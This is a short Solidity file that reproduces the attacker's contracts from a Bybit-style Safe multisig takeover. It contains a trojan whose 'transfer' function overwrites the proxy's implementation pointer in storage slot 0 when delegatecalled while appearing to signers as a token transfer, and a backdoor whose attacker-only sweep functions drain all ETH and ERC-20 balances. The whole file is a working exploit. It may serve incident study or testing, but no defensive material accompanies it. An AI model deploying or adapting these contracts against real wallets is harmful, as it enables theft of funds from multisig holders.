// SPDX-License-Identifier: MIT
// The attacker's contracts of a Bybit-class Safe takeover, modelled on the
// two contracts of February 2025: a trojan whose transfer(address,uint256)
// writes its first argument into storage slot 0 (called by DELEGATECALL
// from a Safe it overwrites the proxy's implementation pointer while the
// signers' screens show an ERC-20 transfer), and the backdoor that the
// hijacked proxy then runs, whose sweep functions empty the Safe.
pragma solidity 0.8.28;

contract Trojan {
    address internal slot0; // a Safe proxy's singleton lives in slot 0

    function transfer(address to, uint256) external {
        slot0 = to;
    }
}

interface ISweepable {
    function transfer(address to, uint256 value) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

contract Backdoor {
    address internal slot0;
    address private immutable attacker;

    constructor() {
        attacker = msg.sender;
    }

    function sweepETH(address payable to) external {
        require(msg.sender == attacker, "Backdoor: not attacker");
        (bool ok,) = to.call{value: address(this).balance}("");
        require(ok, "Backdoor: sweep");
    }

    function sweepERC20(ISweepable token, address to) external {
        require(msg.sender == attacker, "Backdoor: not attacker");
        require(token.transfer(to, token.balanceOf(address(this))), "Backdoor: sweep token");
    }
}
